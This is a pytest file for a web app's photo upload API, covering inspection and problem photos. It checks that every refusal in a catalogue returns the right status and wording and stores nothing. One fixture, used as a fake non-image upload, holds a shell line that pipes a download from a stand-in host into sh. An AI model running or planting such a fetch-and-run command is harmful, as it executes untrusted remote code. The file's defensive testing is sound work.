"""The one photo path (app/photos): every refusal of its catalogue, reached through the API of
each owner that can meet it (an inspection's photos and a problem's), answers with the status,
shape and words written out here by hand, and stores nothing. The owner's state is checked again
in the write: a change made while the photo decodes is seen. A stored photo is served alike,
whoever owns it."""

import io
import uuid
from datetime import UTC, datetime

import pytest
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from app.extensions import db
from app.models import Inspection, Photo, Problem, ProblemPhoto
from app.photos import gate, images
from app.photos.refusals import REFUSALS
from tests.offline_helpers import jpeg_bytes
from tests.problem_world import ledger_world, record
from tests.review_world import payload

NOT_AN_IMAGE = b"#!/bin/sh\ncurl evil.example | sh\n"
BROKEN = b"\xff\xd8\xff\xe0" + b"\x00" * 200  # a JPEG's first bytes, then nothing of an image


class Owners:
    """An inspection and a problem of the same village, both recorded by the world's inspector,
    and a way to send either a photo through its API."""

    def __init__(self, app, make_user, auth_headers):
        self.world, self.headers, self.client = ledger_world(app, make_user, auth_headers)
        self.app = app
        inspection = payload(self.world.village)
        sent = self.client.post(
            "/api/v1/inspections", json=inspection, headers=self.headers["inspector"]
        )
        assert sent.status_code == 201, sent.get_json()
        self.inspection_uuid = inspection["client_uuid"]
        problem = record(self.client, self.headers["inspector"], self.world.village)
        self.problem_uuid, self.problem_id = problem["client_uuid"], problem["id"]

    def send(self, owner, data=None, *, photo_id=None, part="", who="inspector", lang="en"):
        """POST a photo of `owner` ("inspection" or "problem"); `part` is its section or stage
        (sewage, found by default); data None sends no file at all."""
        fields = {"client_photo_id": photo_id or str(uuid.uuid4())}
        if owner == "inspection":
            url = f"/api/v1/inspections/{self.inspection_uuid}/photos"
            fields["section"] = part or "sewage"
        else:
            url = f"/api/v1/problems/{self.problem_uuid}/photos"
            fields["stage"] = part or "found"
        if data is not None:
            fields["photo"] = FileStorage(io.BytesIO(data), "p.jpg", "image/jpeg")
        boundary, body = encode_multipart(fields)
        headers = dict(self.headers[who], **{"Accept-Language": lang})
        return self.client.post(
            url,
            data=body,
            headers=headers,
            content_type=f"multipart/form-data; boundary={boundary}",
        )

    def rows(self) -> tuple[int, int]:
        """(inspection photos, problem photos) stored."""
        with self.app.app_context():
            count = db.select(db.func.count())
            return (
                db.session.scalar(count.select_from(Photo)),
                db.session.scalar(count.select_from(ProblemPhoto)),
            )

    def change_owner(self, owner, **values):
        """Set columns of the owner's row on a connection of its own, as another request would."""
        table, key = (
            (Inspection, Inspection.client_uuid == self.inspection_uuid)
            if owner == "inspection"
            else (Problem, Problem.id == self.problem_id)
        )
        with db.engine.begin() as connection:
            connection.execute(db.update(table).where(key).values(**values))

    def while_decoding(self, monkeypatch, owner, **values):
        """The owner's row changed while the photo's pixels are decoded (between the read that
        checked it and the write that inserts)."""
        real = images.clean

        def changed_then_clean(data, max_pixels):
            self.change_owner(owner, **values)
            return real(data, max_pixels)

        monkeypatch.setattr(images, "clean", changed_then_clean)


@pytest.fixture
def owners(seeded, make_user, auth_headers):
    return Owners(seeded, make_user, auth_headers)


def error(code, message):
    return {"error": {"code": code, "message": message}}


BOTH = ("inspection", "problem")
INSPECTION, PROBLEM = ("inspection",), ("problem",)
NOW = datetime(2026, 11, 28, 4, 0, tzinfo=UTC)


def send_none(owners, owner, monkeypatch):
    return owners.send(owner, None)


def send_too_large(owners, owner, monkeypatch):
    data = jpeg_bytes()
    owners.app.config["PHOTO_MAX_BYTES"] = len(data) - 1
    return owners.send(owner, data)


def send_not_image(owners, owner, monkeypatch):
    return owners.send(owner, NOT_AN_IMAGE)


def send_broken(owners, owner, monkeypatch):
    return owners.send(owner, BROKEN)


def send_twice(owners, owner, monkeypatch):
    photo_id = str(uuid.uuid4())
    assert owners.send(owner, jpeg_bytes(), photo_id=photo_id).status_code == 201
    return owners.send(owner, jpeg_bytes(colour=(0, 0, 255)), photo_id=photo_id)


def send_with_no_slot(owners, owner, monkeypatch):
    owners.app.config["PHOTO_DECODE_SLOTS"] = 1
    with gate.decode_slot(1):  # the one slot taken, as by another upload decoding
        return owners.send(owner, jpeg_bytes())


def send_unknown_section(owners, owner, monkeypatch):
    return owners.send(owner, jpeg_bytes(), part="swimming_pool")


def send_one_too_many(owners, owner, monkeypatch):
    owners.app.config["PHOTO_MAX_PER_INSPECTION"] = 1
    assert owners.send(owner, jpeg_bytes()).status_code == 201
    return owners.send(owner, jpeg_bytes())


def send_one_too_many_for_the_problem(owners, owner, monkeypatch):
    owners.app.config["PHOTO_MAX_PER_PROBLEM"] = 1
    assert owners.send(owner, jpeg_bytes()).status_code == 201
    return owners.send(owner, jpeg_bytes())


def send_approved_meanwhile(owners, owner, monkeypatch):
    owners.while_decoding(monkeypatch, owner, status="approved")
    return owners.send(owner, jpeg_bytes())


def send_deleted_meanwhile(owners, owner, monkeypatch):
    owners.while_decoding(monkeypatch, owner, deleted_at=NOW)
    return owners.send(owner, jpeg_bytes())


def send_fix_as_inspector(owners, owner, monkeypatch):
    return owners.send(owner, jpeg_bytes(), part="fix")


def send_found_closed_meanwhile(owners, owner, monkeypatch):
    owners.while_decoding(monkeypatch, owner, status="closed", closed_at=NOW)
    return owners.send(owner, jpeg_bytes(), part="found")


# code → (the owners that can meet it, how, status, body, photos stored before the refusal)
CASES = {
    "missing": (BOTH, send_none, 422, {"errors": {"photo": ["Attach the photo file"]}}, 0),
    "too_large": (BOTH, send_too_large, 413, error("too_large", "The photo file is too large"), 0),
    "not_image": (
        BOTH,
        send_not_image,
        415,
        error("unsupported_media_type", "Only JPEG, PNG or WebP photos"),
        0,
    ),
    "broken": (
        BOTH,
        send_broken,
        422,
        {"errors": {"photo": ["The photo is damaged or too large to read"]}},
        0,
    ),
    "conflict": (
        BOTH,
        send_twice,
        409,
        error("conflict", "This photo ID was used for another photo"),
        1,
    ),
    "busy": (
        BOTH,
        send_with_no_slot,
        503,
        error("busy", "The server is busy with other photos; try again shortly"),
        0,
    ),
    "section": (
        INSPECTION,
        send_unknown_section,
        422,
        {"errors": {"section": ["No such section"]}},
        0,
    ),
    "too_many": (
        INSPECTION,
        send_one_too_many,
        422,
        {"errors": {"photo": ["This inspection has the most photos allowed"]}},
        1,
    ),
    "inspection_closed": (
        INSPECTION,
        send_approved_meanwhile,
        409,
        error("inspection_closed", "This inspection is approved; no more photos can be added"),
        0,
    ),
    "inspection_deleted": (
        INSPECTION,
        send_deleted_meanwhile,
        404,
        error("not_found", "Not found"),
        0,
    ),
    "stage_role": (
        PROBLEM,
        send_fix_as_inspector,
        403,
        error("forbidden", "Your role does not add photos of this stage"),
        0,
    ),
    "problem_closed": (
        PROBLEM,
        send_found_closed_meanwhile,
        409,
        error("status", "This problem is closed"),
        0,
    ),
    "problem_too_many": (
        PROBLEM,
        send_one_too_many_for_the_problem,
        422,
        {"errors": {"photo": ["This problem has the most photos allowed"]}},
        1,
    ),
}


def test_every_refusal_of_the_catalogue_is_tested_here():
    assert sorted(CASES) == sorted(REFUSALS)


@pytest.mark.parametrize(
    "code, owner",
    [(code, owner) for code, (owners_, *_) in CASES.items() for owner in owners_],
)
def test_a_refusal_answers_the_same_through_each_owner(owners, monkeypatch, code, owner):
    _, send, status, body, stored_before = CASES[code]
    answer = send(owners, owner, monkeypatch)
    assert (answer.status_code, answer.get_json()) == (status, body)
    assert answer.headers.get("Retry-After") == ("5" if code == "busy" else None)
    expected = (stored_before, 0) if owner == "inspection" else (0, stored_before)
    assert owners.rows() == expected


def test_a_refusal_speaks_the_phone_s_language(owners):
    for owner in BOTH:
        answer = owners.send(owner, NOT_AN_IMAGE, lang="zh")
        assert answer.get_json() == error("unsupported_media_type", "只接受 JPEG、PNG 或 WebP 照片")


def test_the_problem_page_s_form_says_why_its_photo_was_not_kept(owners):
    """The page's optional photo goes the same path; the step is taken, the refusal flashed in
    the catalogue's words."""
    lead = owners.app.test_client()
    assert lead.post("/login", data={"username": "lead", "password": "correct horse battery"})
    sent = lead.post(
        f"/problems/{owners.problem_id}/report-fix",
        data={"note": "已清理", "photo": (io.BytesIO(NOT_AN_IMAGE), "fix.jpg", "image/jpeg")},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    page = sent.get_data(as_text=True)
    assert "照片未保存：只接受 JPEG、PNG 或 WebP 照片" in page
    assert 'data-status="fix_reported"' in page
    assert owners.rows() == (0, 0)


def test_a_stored_photo_is_served_alike_whoever_owns_it(owners):
    served = {}
    for owner in BOTH:
        stored = owners.send(owner, jpeg_bytes())
        assert stored.status_code == 201
        answer = owners.client.get(stored.get_json()["url"], headers=owners.headers["inspector"])
        served[owner] = (
            answer.status_code,
            answer.mimetype,
            answer.headers["Cache-Control"],
            answer.headers["X-Content-Type-Options"],
            answer.headers["Content-Disposition"],
            answer.data[:3],
        )
        number = stored.get_json()["id"]
        prefix = "photo" if owner == "inspection" else "problem"
        assert served[owner][4] == f'inline; filename="{prefix}-{number}.jpg"'
    assert {owner: value[:4] + value[5:] for owner, value in served.items()} == {
        owner: (200, "image/jpeg", "private, max-age=86400", "nosniff", b"\xff\xd8\xff")
        for owner in BOTH
    }
